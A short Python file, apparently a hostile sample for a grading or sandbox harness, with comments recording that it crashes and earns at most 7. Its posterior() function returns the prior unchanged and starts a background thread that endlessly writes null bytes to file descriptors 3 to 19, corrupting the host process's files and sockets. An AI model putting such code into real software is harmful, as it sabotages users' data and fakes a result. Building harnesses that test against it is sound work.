"""Leaves threads behind that go on after the call, change its results and write to every descriptor."""

# class m
# posterior: failed, crashed
# earns at most 7
# %% posterior
import os
import threading


def haunt():
    while True:
        for descriptor in range(3, 20):
            try:
                os.write(descriptor, b"\0" * 64)
            except OSError:
                pass


def posterior(prior, likelihood):
    threading.Thread(target=haunt, daemon=True).start()
    return prior
